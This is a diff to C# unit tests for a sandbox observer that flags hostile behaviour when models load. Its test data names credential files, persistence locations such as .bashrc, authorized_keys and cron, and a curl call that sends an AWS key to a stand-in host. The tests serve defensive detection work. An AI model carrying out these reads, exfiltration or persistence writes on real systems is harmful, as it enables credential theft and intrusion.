@@ -1,4 +1,6 @@
+using System.Text;
 using DynaHug.Worker.Evidence;
+using DynaHug.Worker.Sandbox;
 using DynaHug.Worker.Tracing;
 using static DynaHug.Worker.Tests.Evidence.Runs;
 
@@ -67,9 +69,9 @@ public sealed class ObserverSpecs
         Ids(With(Call("socket", 1, 1), ConnectUnix("/var/run/docker.sock"))).ShouldBe(["network-attempt"]);
 
     [Theory]
-    [InlineData("/home/user/.aws/credentials")]
-    [InlineData("/home/user/.ssh/../.ssh//id_rsa")]
-    [InlineData("/proc/self/root/home/user/.netrc")]
+    [InlineData("/home/emma/.aws/credentials")]
+    [InlineData("/home/emma/.ssh/../.ssh//id_rsa")]
+    [InlineData("/proc/self/root/home/emma/.netrc")]
     [InlineData("/proc/self/environ")]
     [InlineData("/proc/self/cwd/.ssh/id_rsa")]
     [InlineData(".aws/credentials")]
@@ -77,7 +79,7 @@ public sealed class ObserverSpecs
 
     [Theory]
     [InlineData("/model/file")]
-    [InlineData("/home/user/project/README.md")]
+    [InlineData("/home/emma/project/README.md")]
     [InlineData("config")]
     [InlineData("/usr/share/zoneinfo/UTC")]
     [InlineData("/proc/cpuinfo")]
@@ -89,25 +91,38 @@ public sealed class ObserverSpecs
 
     [Fact]
     public void A_link_to_a_planted_file_is_as_good_as_reading_it() => Ids(Reporting(
-        """{"outcome":"loaded","audit":[{"event":"os.symlink","arguments":"'/home/user/.ssh/id_rsa', '/tmp/notes', -1"}]}""")).ShouldContain("secret-read");
+        """{"outcome":"loaded","audit":[{"event":"os.symlink","arguments":"'/home/emma/.ssh/id_rsa', '/tmp/notes', -1"}]}""")).ShouldContain("secret-read");
 
     [Fact]
-    public void Looking_into_a_credential_folder_is_probing() => Ids(With(Open("/home/user/.ssh"))).ShouldBe(["secret-probed"]);
+    public void Looking_into_a_credential_folder_is_probing() => Ids(With(Open("/home/emma/.ssh"))).ShouldBe(["secret-probed"]);
 
     [Fact]
     public void The_list_of_accounts_is_seen() => Ids(With(Open("/etc/passwd"))).ShouldBe(["account-list-read"]);
 
     [Theory]
-    [InlineData("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")]
-    [InlineData("aGZfUXd2S2RadFlwTHJYbk1zQmdIakNmVGFFdVJpT3lWYldxUw")]
-    [InlineData("eGhmX1F3dktkWnRZcExyWG5Nc0JnSGpDZlRhRXVSaU95VmJXcVM")]
-    [InlineData("68665f517776")]
-    public void A_planted_secret_in_the_output_is_a_leak_in_any_encoding(string printed)
+    [InlineData("plain")]
+    [InlineData("hexadecimal")]
+    [InlineData("base64")]
+    [InlineData("base64 after one byte")]
+    [InlineData("base64 after two bytes")]
+    public void A_planted_secret_in_the_output_is_a_leak_in_any_encoding(string encoding)
     {
-        var full = printed.StartsWith("68", StringComparison.Ordinal) ? Convert.ToHexStringLower("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"u8) : printed;
+        var token = HoneyHome.Of(Honey).Variables["HF_TOKEN"];
+        var printed = encoding switch
+        {
+            "plain" => token,
+            "hexadecimal" => Convert.ToHexStringLower(Encoding.ASCII.GetBytes(token)),
+            "base64" => Convert.ToBase64String(Encoding.ASCII.GetBytes(token)),
+            "base64 after one byte" => Convert.ToBase64String(Encoding.ASCII.GetBytes($"x{token}")),
+            _ => Convert.ToBase64String(Encoding.ASCII.GetBytes($"xy{token}")),
+        };
 
-        Ids(With() with { StandardOutput = $"x={full}\n" }).ShouldBe(["canary-leaked"]);
+        Ids(With() with { StandardOutput = $"x={printed}\n" }).ShouldBe(["canary-leaked"]);
     }
+
+    [Fact]
+    public void Another_images_secret_is_none_of_this_one() =>
+        Ids(With() with { StandardOutput = HoneyHome.Draw().Variables["HF_TOKEN"] }).ShouldBeEmpty();
 
     [Fact]
     public void Ordinary_output_leaks_nothing() =>
@@ -115,22 +130,22 @@ public sealed class ObserverSpecs
 
     [Fact]
     public void A_secret_in_an_argument_is_a_leak() =>
-        Ids(With(Fork(3), Exec(3, "/bin/curl", "http://x/?k=AKIA5Q7RXN2MVD4LTPZC"), Ended(3, 3))).ShouldContain("canary-leaked");
+        Ids(With(Fork(3), Exec(3, "/bin/curl", $"http://x/?k={HoneyHome.Of(Honey).Variables["AWS_ACCESS_KEY_ID"]}"), Ended(3, 3))).ShouldContain("canary-leaked");
 
     [Theory]
     [InlineData("/usr/lib/python3/dist-packages/a.pth")]
-    [InlineData("/home/user/.local/lib/python3.11/site-packages/sitecustomize.py")]
-    [InlineData("/home/user/.bashrc")]
-    [InlineData("/home/user/.ssh/authorized_keys")]
+    [InlineData("/home/emma/.local/lib/python3.11/site-packages/sitecustomize.py")]
+    [InlineData("/home/emma/.bashrc")]
+    [InlineData("/home/emma/.ssh/authorized_keys")]
     [InlineData("/etc/cron.d/x")]
-    [InlineData("/home/user/.cache/huggingface/hub/models--a/blobs/x")]
+    [InlineData("/home/emma/.cache/huggingface/hub/models--a/blobs/x")]
     public void Start_files_written_are_persistence(string path) => Ids(With(Open(path, WriteNew))).ShouldContain("persistence-written");
 
     [Fact]
-    public void A_start_file_that_is_only_read_is_not() => Ids(With(Open("/home/user/.bashrc"))).ShouldBeEmpty();
+    public void A_start_file_that_is_only_read_is_not() => Ids(With(Open("/home/emma/.bashrc"))).ShouldBeEmpty();
 
     [Fact]
-    public void Other_files_written_are_told_apart() => Ids(With(Open("/home/user/notes.txt", Write))).ShouldBe(["file-written-outside-tmp"]);
+    public void Other_files_written_are_told_apart() => Ids(With(Open("/home/emma/notes.txt", Write))).ShouldBe(["file-written-outside-tmp"]);
 
     [Theory]
     [InlineData("/tmp/tmpabc/storages")]
@@ -157,7 +172,7 @@ public sealed class ObserverSpecs
 
     [Fact]
     public void Rewriting_many_is_too() =>
-        Ids(With([.. Enumerable.Range(0, 20).Select(number => Open($"/home/user/Documents/{number}", Write))])).ShouldContain("mass-deletion");
+        Ids(With([.. Enumerable.Range(0, 20).Select(number => Open($"/home/emma/Documents/{number}", Write))])).ShouldContain("mass-deletion");
 
     [Theory]
     [InlineData("mmap", 7ul, 0x22ul)]
